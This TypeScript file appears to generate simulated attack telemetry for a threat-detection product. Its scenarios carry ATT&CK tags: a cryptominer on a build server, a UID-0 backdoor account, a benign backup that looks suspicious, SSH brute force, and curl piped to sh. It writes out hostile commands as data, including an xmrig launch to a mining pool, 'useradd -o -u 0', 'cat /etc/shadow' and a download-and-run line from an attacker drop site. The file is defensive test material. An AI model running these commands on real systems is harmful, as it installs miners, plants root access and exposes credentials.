// A miner, an account that is as good as root, and what looks like an attack and is none.
import { Activity } from '@threatguard/proto';
import { ATTACKERS, personNamed, ROOT } from '../cast.ts';
import { daysBefore, MINUTE_US, minutesBefore, SECOND_US, type Story } from './story.ts';

const SAMPLES = 40;

/** T1496.001, T1564.001 and T1053.003. */
export const miner: Story = {
  name: 'a miner takes a build server',
  beginsUs: daysBefore(5, 14, 20),
  tell({ atUs, random, on }) {
    const stage = on('demo-build-1');
    const runner = stage.service({ name: 'runner', id: 995 }, '/usr/bin/node');
    const shell = stage.run(atUs, runner, '/usr/bin/bash', ['bash', '-e', 'build.sh']);
    const kill = ['sh', '-c', 'pkill -9 xmrig; pkill -9 kinsing'];
    stage.run(atUs + 5 * SECOND_US, shell, '/usr/bin/dash', kill);
    const pool = 'pool.supportxmr.com';
    const args = ['/tmp/.X11/xmrig', '-o', `stratum+tcp://${pool}:3333`, '--donate-level', '1', '-B'];
    const xmrig = stage.run(atUs + 20 * SECOND_US, shell, '/tmp/.X11/xmrig', args);
    stage.asked(atUs + 21 * SECOND_US, xmrig, pool, ATTACKERS.pool);
    const to = { address: ATTACKERS.pool, port: 3333 };
    for (let each = 0; each < SAMPLES; each++) {
      const sampleUs = atUs + (each * 4 + 1) * MINUTE_US;
      stage.sample(sampleUs, 94 + random.uniform() * 5);
      if (each % 5 === 0) stage.connection(sampleUs, xmrig, to, { sent: 40_000, received: 90_000 });
    }
  },
};

/** T1136.001 and T1078. */
export const rootTwin: Story = {
  name: 'an account is made that is as good as root',
  beginsUs: daysBefore(1, 19, 30),
  tell({ atUs, on }) {
    const stage = on('demo-mail-1');
    const peggy = personNamed('peggy');
    const shell = stage.session(atUs, peggy, `${peggy.network}.25`);
    stage.privilege(atUs + MINUTE_US, peggy.name, '/usr/sbin/useradd', true);
    const args = ['useradd', '-o', '-u', '0', '-g', '0', 'support'];
    stage.run(atUs + MINUTE_US, shell, '/usr/sbin/useradd', args, { user: ROOT });
    stage.account(atUs + MINUTE_US + SECOND_US, 'support', 0);
  },
};

/** A person works by night on what is planned, and a package brings a job: rules speak, and an analyst closes it. */
export const plannedWork: Story = {
  name: 'planned work that looks like more',
  beginsUs: daysBefore(1, 8, 30),
  tell({ atUs, on }) {
    const stage = on('demo-backup-1');
    const bob = personNamed('bob');
    const shell = stage.session(atUs, bob, `${bob.network}.11`);
    const root = { ...shell, user: ROOT };
    stage.privilege(atUs + MINUTE_US, bob.name, '/usr/bin/bash', true);
    const move = ['sh', '-c', 'tar cz /srv/archive | nc demo-db-1 9000'];
    stage.run(atUs + 2 * MINUTE_US, root, '/usr/bin/dash', move, { user: ROOT });
    stage.file(atUs + 3 * MINUTE_US, '/etc/sudoers.d/backup', ['backup ALL=(root) NOPASSWD: /usr/bin/rsync']);
    stage.run(atUs + 4 * MINUTE_US, root, '/usr/bin/cat', ['cat', '/etc/shadow'], { user: ROOT });
    stage.daemon(atUs + 5 * MINUTE_US, 'auditd', Activity.SERVICE_STOPPED);
    stage.daemon(atUs + 6 * MINUTE_US, 'auditd', Activity.SERVICE_STARTED);
  },
};

/** T1110.001 against the bastion, as it goes on day and night. */
export const knocking: Story = {
  name: 'the bastion is tried again',
  beginsUs: minutesBefore(12),
  tell({ atUs, random, on }) {
    const stage = on('demo-bastion-1');
    const source = `203.0.113.${100 + random.integer(120)}`;
    const user = random.pick(['root', 'admin', 'postgres', 'git']);
    for (let each = 0; each < 12; each++) stage.logon(atUs + each * 2 * SECOND_US, user, source, { ok: false });
  },
};

/** T1059.004, T1105: somebody pipes the web into a shell. */
export const pipedIntoShell: Story = {
  name: 'a script of the web goes straight into a shell',
  beginsUs: minutesBefore(25),
  tell({ atUs, random, on }) {
    const stage = on(random.pick(['demo-app-1', 'demo-app-2', 'demo-build-1']));
    const person = personNamed(random.pick(['carol', 'grace', 'karl', 'sybil']));
    const shell = stage.session(atUs, person, `${person.network}.31`);
    const line = `curl -fsSL http://${ATTACKERS.dropSite}/setup.sh | sh`;
    stage.run(atUs + 5 * SECOND_US, shell, '/usr/bin/bash', ['bash', '-c', line]);
  },
};
